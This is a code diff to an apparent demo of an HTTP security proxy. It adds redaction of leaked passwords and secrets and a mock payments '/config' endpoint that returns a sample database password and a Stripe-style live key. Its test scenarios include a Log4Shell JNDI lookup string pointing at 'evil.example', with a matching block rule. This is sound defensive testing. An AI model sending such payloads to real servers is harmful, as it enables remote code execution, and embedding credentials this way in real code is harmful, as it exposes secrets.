@@ -25,10 +25,14 @@ const POLICY = {
     { id: "no-jndi", action: "block", match: { header: { name: "user-agent", contains: "${jndi:" } } },
     { id: "debug-header", action: "alert", match: { header: { name: "x-debug", equals: "1" } } },
   ],
-  // PII: card numbers and emails are masked in responses; an SSN sent to a service is blocked; the rest alerts.
+  // PII: card numbers, emails and leaked credentials are masked in responses; an SSN sent to a service is
+  // blocked; the rest alerts.
   actions: {
     default: { request: "alert", response: "alert" },
-    pii: { card: { request: "alert", response: "redact" }, email: { request: "alert", response: "redact" }, ssn: { request: "block", response: "redact" } },
+    pii: {
+      card: { request: "alert", response: "redact" }, email: { request: "alert", response: "redact" }, ssn: { request: "block", response: "redact" },
+      secret: { request: "alert", response: "redact" }, password: { request: "alert", response: "redact" },
+    },
   },
 };
 
@@ -44,6 +48,7 @@ const SCENARIOS: Scenario[] = [
   { service: "payments", method: "GET", path: "/health", headers: { "user-agent": "${jndi:ldap://evil.example/a}" }, label: "Log4Shell probe in User-Agent" },
   { service: "orders", method: "GET", path: "/orders/1002", headers: { "x-debug": "1" }, label: "debug header (alert only)" },
   { service: "payments", method: "POST", path: "/charge", body: { amount: 20, ssn: "123-45-6789" }, label: "SSN sent to payments (blocked)" },
+  { service: "payments", method: "GET", path: "/config", label: "a config endpoint leaks credentials (redacted)" },
 ];
 
 const COLLECTOR_CLUSTER = "outbound|9080||l7guard-manager.l7guard-system.svc.cluster.local";
@@ -141,6 +146,8 @@ async function startServices(): Promise<DemoService[]> {
     await startService("shop", "payments", {
       "POST /charge": () => ({ status: 200, body: { status: "captured", reference: `ch_${Math.random().toString(36).slice(2, 10)}` } }),
       "GET /health": () => ({ status: 200, body: { ok: true } }),
+      // A debug endpoint that returns its configuration: a connection string and a payment provider's key.
+      "GET /config": () => ({ status: 200, body: { database: "postgres://payments:S3cr3tPa55@db.shop.svc:5432/payments", stripeKey: "sk_live_51Hq7Jd2xyZa1bC9dEk3R9xqPzL2mWvT8sYb4N", region: "eu-west-1" } }),
     }),
   ];
 
@@ -181,7 +188,7 @@ export async function main(argv: string[]): Promise<void> {
       if (verdict === "block") { try { const b = JSON.parse(r.body); detail = ` rule=${b.rule ?? b.class} requestId=${b.requestId}`; } catch { /* not JSON */ } }
       if (verdict === "block") { try { const b = JSON.parse(r.body); if (b.class === "pii") detail = ` pii=${b.type} requestId=${b.requestId}`; } catch { /* not JSON */ } }
       console.log(`${s.method.padEnd(4)} ${s.service}${s.path.padEnd(14)} -> ${r.status} ${verdict.padEnd(5)}${detail}  (${r.ms.toFixed(1)} ms)  ${s.label}`);
-      if (s.path.startsWith("/orders/") && r.status === 200) console.log(`     response as the client sees it: ${r.body}`);
+      if ((s.path.startsWith("/orders/") || s.path === "/config") && r.status === 200) console.log(`     response as the client sees it: ${r.body}`);
     } catch (e) {
       tally.errors++;
       console.log(`${s.method} ${s.service}${s.path} -> error ${(e as Error).message}`);
